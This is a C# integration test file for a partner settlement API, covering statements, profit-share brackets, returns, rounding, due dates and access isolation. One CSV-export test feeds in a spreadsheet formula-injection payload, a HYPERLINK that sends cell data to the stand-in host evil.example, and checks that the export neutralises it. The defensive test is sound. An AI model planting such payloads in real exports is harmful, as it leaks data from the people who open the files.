using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Integration.Api.Tests.Infrastructure;
using static Integration.Api.Tests.Settlement.SettlementPlatform;

namespace Integration.Api.Tests.Settlement;

/// <summary>Statements through the HTTP API, checked against domain.md › Settlement to the cent.</summary>
public sealed class StatementTests
{
    [Fact]
    public async Task The_worked_example_of_domain_md_comes_out_to_the_cent()
    {
        await using var platform = await StartAsync(At(2026, 1, 10));
        var p = await platform.NewPartnerAsync(tier: "advanced", rating: "B", annualTarget: 3_000_000m);
        var sku = await platform.ProductForAdvancedAsync(100_000m);

        for (var i = 0; i < 5; i++) await p.DeliverOrderAsync(sku, 1);          // January 500,000
        platform.MoveTo(At(2026, 2, 10));
        await p.DeliverOrderAsync(sku, 4);                                        // February 400,000
        platform.MoveTo(At(2026, 3, 10));
        await p.DeliverOrderAsync(sku, 2);                                        // March 300,000
        await p.DeliverOrderAsync(sku, 1);

        var preview = await p.StatementAsync("2026-03");
        Assert.Equal("open", preview["status"]!.GetValue<string>());
        Assert.Null(preview["id"]);

        platform.MoveTo(At(2026, 4, 2));
        var closing = await platform.CloseAsync("2026-03", p.Id);
        Assert.Equal(1, closing["closed"]!.GetValue<int>());

        var march = await p.StatementAsync("2026-03");
        Assert.Equal("closed", march["status"]!.GetValue<string>());
        Assert.StartsWith("stm_", march["id"]!.GetValue<string>());
        var lines = march.Lines();
        Assert.Equal(-300_000.00m, lines["order_charges"]);
        Assert.Equal(55_000.00m, lines["profit_share"]);
        Assert.Equal(-3_000.00m, lines["development_fund"]);
        Assert.Equal(3, lines.Count);
        Assert.Equal("-248000.00", march.Amount("balance"));
        Assert.Equal("248000.00", march.Amount("amountDue"));
        Assert.Equal("900000.00", march.Amount("netSalesEarlierInYear"));
        Assert.Equal("2026-04-30", march["dueDate"]!.GetValue<string>());
        Assert.Empty(march["payouts"]!.AsArray());
        // The preview showed what the close then fixed.
        Assert.Equal(preview.Lines(), lines);

        // The same statement by id, and in v1 (same shape: settlement money is a decimal string in every version).
        var byId = await p.StatementAsync(march["id"]!.GetValue<string>(), "v1");
        Assert.Equal(march["lines"]!.ToJsonString(), byId["lines"]!.ToJsonString().Replace("/v1/", "/v2/"));
    }

    [Fact]
    public async Task Earlier_months_closed_one_by_one_give_the_same_cumulative_figure()
    {
        await using var platform = await StartAsync(At(2026, 1, 10));
        var p = await platform.NewPartnerAsync(annualTarget: 3_000_000m);
        var sku = await platform.ProductForAdvancedAsync(100_000m);
        await p.DeliverOrderAsync(sku, 5);
        platform.MoveTo(At(2026, 2, 10));
        await p.DeliverOrderAsync(sku, 4);
        platform.MoveTo(At(2026, 3, 10));
        await p.DeliverOrderAsync(sku, 3);
        platform.MoveTo(At(2026, 4, 2));
        await platform.CloseAsync("2026-01", p.Id);
        await platform.CloseAsync("2026-02", p.Id);
        await platform.CloseAsync("2026-03", p.Id);

        Assert.Equal(75_000.00m, (await p.StatementAsync("2026-01")).Lines()["profit_share"]);   // 15% of 500,000
        Assert.Equal(60_000.00m, (await p.StatementAsync("2026-02")).Lines()["profit_share"]);   // 15% of 400,000
        Assert.Equal(55_000.00m, (await p.StatementAsync("2026-03")).Lines()["profit_share"]);   // crosses 1,000,000
    }

    [Fact]
    public async Task A_month_that_crosses_the_bracket_pays_15_percent_below_and_20_percent_above()
    {
        await using var platform = await StartAsync(At(2026, 1, 10));
        var p = await platform.NewPartnerAsync();
        var sku = await platform.ProductForAdvancedAsync(50_000m);
        await p.DeliverOrderAsync(sku, 19);                                       // 950,000
        platform.MoveTo(At(2026, 2, 10));
        await p.DeliverOrderAsync(sku, 2);                                        // 100,000: 50,000 at 15%, 50,000 at 20%
        platform.MoveTo(At(2026, 3, 1, 7));
        await platform.CloseAsync("2026-02", p.Id);

        var february = await p.StatementAsync("2026-02");
        Assert.Equal(17_500.00m, february.Lines()["profit_share"]);
        Assert.Equal("-83500.00", february.Amount("balance"));                   // −100,000 + 17,500 − 1,000
    }

    [Fact]
    public async Task A_return_counts_in_the_month_it_happens_and_lowers_the_cumulative_total()
    {
        await using var platform = await StartAsync(At(2026, 1, 25));
        var p = await platform.NewPartnerAsync();
        var sku = await platform.ProductForAdvancedAsync(100_000m);
        await p.DeliverOrderAsync(sku, 9);
        var returned = await p.DeliverOrderAsync(sku, 2);                         // January: 1,100,000
        platform.MoveTo(At(2026, 2, 5));
        await p.ReturnOrderAsync(returned);                                       // February: −200,000
        platform.MoveTo(At(2026, 3, 2));
        await platform.CloseAsync("2026-01", p.Id);
        await platform.CloseAsync("2026-02", p.Id);

        var january = await p.StatementAsync("2026-01");
        Assert.Equal(170_000.00m, january.Lines()["profit_share"]);              // 150,000 + 20% of 100,000
        var february = await p.StatementAsync("2026-02");
        var lines = february.Lines();
        Assert.Equal(200_000.00m, lines["order_charges"]);                        // a credit: the goods came back
        Assert.Equal(-35_000.00m, lines["profit_share"]);                         // f(900,000) − f(1,100,000)
        Assert.Equal(2_000.00m, lines["development_fund"]);
        Assert.Equal("167000.00", february.Amount("balance"));
        Assert.Equal(1, february["returnedOrders"]!.GetValue<int>());
        Assert.Equal("-200000.00", february.Amount("netSales"));
    }

    [Fact]
    public async Task Each_line_is_rounded_on_its_own_midpoint_away_from_zero()
    {
        await using var platform = await StartAsync(At(2026, 5, 3));
        var p = await platform.NewPartnerAsync();
        var sku = await platform.ProductForAdvancedAsync(12_345.50m);           // list 16,460.67 → 12,345.5025 → 12,345.50
        await p.DeliverOrderAsync(sku, 1);
        await platform.RecordSubsidyAsync(p.Id, 0.03m);                            // 50% of 0.03 = 0.015 → 0.02
        platform.MoveTo(At(2026, 6, 1, 8));
        await platform.CloseAsync("2026-05", p.Id);

        var may = await p.StatementAsync("2026-05");
        var lines = may.Lines();
        Assert.Equal(-12_345.50m, lines["order_charges"]);
        Assert.Equal(1_851.83m, lines["profit_share"]);                           // 1,851.825
        Assert.Equal(-123.46m, lines["development_fund"]);                        // −123.455
        Assert.Equal(0.02m, lines["activity_subsidy"]);
        Assert.Equal("-10617.11", may.Amount("balance"));                        // the sum of the rounded lines
    }

    [Theory]
    [InlineData("A", "2026-05-30")]
    [InlineData("B", "2026-04-30")]
    [InlineData("C", "2026-04-07")]
    public async Task An_amount_owed_falls_due_after_the_rating_s_payment_term(string rating, string dueDate)
    {
        await using var platform = await StartAsync(At(2026, 3, 20));
        var p = await platform.NewPartnerAsync(rating: rating);
        var sku = await platform.ProductForAdvancedAsync(1_000m);
        await p.DeliverOrderAsync(sku, 3);
        platform.MoveTo(At(2026, 4, 1, 12));
        await platform.CloseAsync("2026-03", p.Id);

        var march = await p.StatementAsync("2026-03");
        Assert.Equal(dueDate, march["dueDate"]!.GetValue<string>());
        Assert.Equal(rating, march["creditRating"]!.GetValue<string>());
    }

    [Fact]
    public async Task December_pays_the_annual_bonus_at_target_and_the_excess_share_to_strategic_partners_only()
    {
        await using var platform = await StartAsync(At(2026, 12, 5));
        var strategic = await platform.NewPartnerAsync(tier: "strategic", annualTarget: 1_000_000m);
        var advanced = await platform.NewPartnerAsync(tier: "advanced", annualTarget: 1_000_000m);
        var belowTarget = await platform.NewPartnerAsync(tier: "strategic", annualTarget: 2_000_000m);
        var sku = await platform.ProductForAdvancedAsync(100_000m);
        foreach (var partner in new[] { strategic, advanced, belowTarget })
        {
            await partner.DeliverOrderAsync(sku, 12);                             // 1,200,000 in the year
        }
        platform.MoveTo(At(2027, 1, 1, 7));
        await platform.CloseAsync("2026-12");

        var s = (await strategic.StatementAsync("2026-12")).Lines();
        Assert.Equal(36_000.00m, s["annual_bonus"]);                              // 3% of 1,200,000
        Assert.Equal(30_000.00m, s["excess_share"]);                              // 15% of 200,000 above target
        Assert.Equal(190_000.00m, s["profit_share"]);

        var a = (await advanced.StatementAsync("2026-12")).Lines();
        Assert.Equal(36_000.00m, a["annual_bonus"]);
        Assert.False(a.ContainsKey("excess_share"));

        var b = (await belowTarget.StatementAsync("2026-12")).Lines();
        Assert.False(b.ContainsKey("annual_bonus"));
        Assert.False(b.ContainsKey("excess_share"));
    }

    [Fact]
    public async Task Closing_twice_or_from_many_requests_at_once_makes_one_statement_that_never_changes()
    {
        await using var platform = await StartAsync(At(2026, 3, 10));
        var p = await platform.NewPartnerAsync();
        var sku = await platform.ProductForAdvancedAsync(1_000m);
        await p.DeliverOrderAsync(sku, 7);
        platform.MoveTo(At(2026, 4, 1, 1));

        var closes = await Task.WhenAll(Enumerable.Range(0, 8).Select(_ => platform.CloseAsync("2026-03")));
        Assert.Equal(1, closes.Sum(c => c["closed"]!.GetValue<int>()));
        var first = await p.StatementAsync("2026-03");

        var again = await platform.CloseAsync("2026-03");
        Assert.Equal(0, again["closed"]!.GetValue<int>());
        Assert.Equal(1, again["alreadyClosed"]!.GetValue<int>());

        // An order delivered after the close does not touch the closed month.
        await p.DeliverOrderAsync(sku, 5);
        Assert.Equal(first.ToJsonString(), (await p.StatementAsync("2026-03")).ToJsonString());
        var list = await (await (await p.ClientAsync()).GetAsync("/v2/settlements")).ReadJsonAsync(HttpStatusCode.OK);
        Assert.Single(list["data"]!.AsArray());

        var trial = await platform.TrialBalanceAsync();
        Assert.True(trial["balanced"]!.GetValue<bool>());
        Assert.Equal("7000.00", trial["accounts"]!.AsArray().Single(a => a!["account"]!.GetValue<string>() == "sales")!["credits"]!["amount"]!.GetValue<string>());
    }

    [Theory]
    [InlineData("2026-04", HttpStatusCode.UnprocessableEntity, "period_not_ended")]
    [InlineData("2027-01", HttpStatusCode.UnprocessableEntity, "period_not_ended")]
    [InlineData("2026-13", HttpStatusCode.BadRequest, "validation_failed")]
    [InlineData("April", HttpStatusCode.BadRequest, "validation_failed")]
    public async Task Closing_a_month_that_has_not_ended_or_is_not_a_month_is_refused(string period, HttpStatusCode status, string code)
    {
        await using var platform = await StartAsync(At(2026, 4, 20));
        var admin = await platform.AdminClientAsync();
        var response = await admin.PostAsJsonAsync("/admin/v1/settlements/close", new { period, environment = "live" });
        var problem = await response.ReadProblemAsync(status, code);
        Assert.NotNull(problem["errors"]!["period"]);
    }

    [Fact]
    public async Task Statements_are_partner_and_environment_private()
    {
        await using var platform = await StartAsync(At(2026, 3, 10));
        var p = await platform.NewPartnerAsync();
        var other = await platform.NewPartnerAsync();
        var sku = await platform.ProductForAdvancedAsync(1_000m);
        await p.DeliverOrderAsync(sku, 1);
        platform.MoveTo(At(2026, 4, 2));
        await platform.CloseAsync("2026-03");
        var id = (await p.StatementAsync("2026-03"))["id"]!.GetValue<string>();

        var otherClient = await other.ClientAsync();
        await (await otherClient.GetAsync($"/v2/settlements/{id}")).ReadProblemAsync(HttpStatusCode.NotFound, "resource_not_found");
        await (await otherClient.GetAsync($"/v2/settlements/{id}/export")).ReadProblemAsync(HttpStatusCode.NotFound);
        await (await otherClient.GetAsync($"/v2/settlements/{id}/orders")).ReadProblemAsync(HttpStatusCode.NotFound);
        Assert.Equal("0.00", (await other.StatementAsync("2026-03")).Amount("deliveredTotal"));

        var sandbox = await platform.IssueCredentialAsync(p.Id, "sandbox");
        var sandboxClient = platform.ClientWithToken(await platform.TokenAsync(sandbox.ClientId, sandbox.Secret));
        await (await sandboxClient.GetAsync($"/v2/settlements/{id}")).ReadProblemAsync(HttpStatusCode.NotFound);
        var sandboxMarch = await (await sandboxClient.GetAsync("/v2/settlements/2026-03")).ReadJsonAsync(HttpStatusCode.OK);
        Assert.Equal("0.00", sandboxMarch.Amount("deliveredTotal"));

        await (await (await p.ClientAsync()).GetAsync("/v2/settlements/2026-05")).ReadProblemAsync(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task The_orders_behind_a_statement_page_through_deliveries_then_returns_and_the_csv_export_lists_them()
    {
        await using var platform = await StartAsync(At(2026, 1, 20));
        var p = await platform.NewPartnerAsync();
        var sku = await platform.ProductForAdvancedAsync(100m);
        var january = await p.DeliverOrderAsync(sku, 1);
        platform.MoveTo(At(2026, 2, 3));
        var delivered = new List<string>();
        for (var i = 0; i < 4; i++)
        {
            delivered.Add(await p.DeliverOrderAsync(sku, i + 1));
            platform.Clock.Advance(TimeSpan.FromMinutes(1));
        }
        await p.ReturnOrderAsync(january);
        platform.MoveTo(At(2026, 3, 2));
        await platform.CloseAsync("2026-02", p.Id);
        var february = await p.StatementAsync("2026-02");
        var ordersUrl = february["lines"]![0]!["ordersUrl"]!.GetValue<string>();
        Assert.Equal(5, february["lines"]![0]!["orderCount"]!.GetValue<int>());

        var client = await p.ClientAsync();
        var seen = new List<JsonNode>();
        var url = ordersUrl + "?limit=2";
        while (url is not null)
        {
            var page = await (await client.GetAsync(url)).ReadJsonAsync(HttpStatusCode.OK);
            seen.AddRange(page["data"]!.AsArray().Select(o => o!));
            url = page["nextCursor"]?.GetValue<string>() is { } next ? $"{ordersUrl}?limit=2&cursor={next}" : null;
        }
        Assert.Equal([.. delivered, january], seen.Select(o => o["orderId"]!.GetValue<string>()));
        Assert.Equal("returned", seen[^1]["kind"]!.GetValue<string>());
        Assert.Equal("-100.00", seen[^1]["amount"]!["amount"]!.GetValue<string>());
        Assert.Equal(february.Amount("netSales"), seen.Sum(o => decimal.Parse(o["amount"]!["amount"]!.GetValue<string>(), System.Globalization.CultureInfo.InvariantCulture)).ToString("0.00", System.Globalization.CultureInfo.InvariantCulture));

        var export = await client.GetAsync($"/v2/settlements/{february["id"]}/export");
        Assert.Equal(HttpStatusCode.OK, export.StatusCode);
        Assert.Equal("text/csv", export.Content.Headers.ContentType!.MediaType);
        var rows = (await export.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(r => r.TrimEnd('\r')).ToList();
        Assert.StartsWith("record,statement_id,period,number,kind", rows[0]);
        Assert.Equal(3, rows.Count(r => r.StartsWith("line,", StringComparison.Ordinal)));
        Assert.Equal(5, rows.Count(r => r.StartsWith("order,", StringComparison.Ordinal)));
        Assert.Contains(rows, r => r.StartsWith("line,", StringComparison.Ordinal) && r.Contains(",order_charges,", StringComparison.Ordinal) && r.EndsWith(",-900.00,CNY", StringComparison.Ordinal));
        Assert.Contains(rows, r => r.Contains($",{january},", StringComparison.Ordinal) && r.EndsWith(",-100.00,CNY", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_csv_export_neutralises_text_a_spreadsheet_would_run_as_a_formula_and_keeps_negative_amounts_numbers()
    {
        await using var platform = await StartAsync(At(2026, 2, 3));
        var p = await platform.NewPartnerAsync();
        var sku = await platform.ProductForAdvancedAsync(12.50m);
        var formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
        var returned = await p.DeliverOrderAsync(sku, 1, reference: formula);
        await p.DeliverOrderAsync(sku, 1, reference: "-2+3");
        await p.DeliverOrderAsync(sku, 1, reference: "@SUM(A1)");
        await p.ReturnOrderAsync(returned);
        platform.MoveTo(At(2026, 3, 2));
        await platform.CloseAsync("2026-02", p.Id);
        var february = await p.StatementAsync("2026-02");
        var client = await p.ClientAsync();

        var export = await client.GetAsync($"/v2/settlements/{february["id"]}/export");
        var csv = await export.Content.ReadAsStringAsync();

        var rows = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        var returnRow = Assert.Single(rows, r => r.StartsWith("order,", StringComparison.Ordinal) && r.Contains(",returned,", StringComparison.Ordinal));
        // The reference is text that starts with a quote mark (and the cell is quoted) ...
        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",", returnRow);
        // ... while the amount stays a plain negative number.
        Assert.EndsWith(",-12.50,CNY", returnRow);
        Assert.Contains(rows, r => r.Contains(",\"'-2+3\",", StringComparison.Ordinal));
        Assert.Contains(rows, r => r.Contains(",\"'@SUM(A1)\",", StringComparison.Ordinal));
        Assert.DoesNotContain(rows, r => r.Contains(",=", StringComparison.Ordinal) || r.Contains(",@", StringComparison.Ordinal) || r.Contains(",+", StringComparison.Ordinal));
        Assert.Contains(rows, r => r.StartsWith("line,", StringComparison.Ordinal) && r.Contains(",order_charges,", StringComparison.Ordinal) && r.EndsWith(",-25.00,CNY", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Activity_subsidies_credit_half_the_cost_capped_at_50000_per_event()
    {
        await using var platform = await StartAsync(At(2026, 7, 1));
        var p = await platform.NewPartnerAsync();
        Assert.Equal("30000.00", (await platform.RecordSubsidyAsync(p.Id, 60_000m))["subsidy"]!["amount"]!.GetValue<string>());
        Assert.Equal("50000.00", (await platform.RecordSubsidyAsync(p.Id, 150_000m))["subsidy"]!["amount"]!.GetValue<string>());
        var refused = await platform.RecordSubsidyAsync(p.Id, -10m, HttpStatusCode.BadRequest);
        Assert.NotNull(refused["errors"]!["cost"]);
        await platform.RecordSubsidyAsync("ptn_missing", 100m, HttpStatusCode.NotFound);

        var july = (await p.StatementAsync("2026-07")).Lines();
        Assert.Equal(80_000.00m, july["activity_subsidy"]);
    }
}
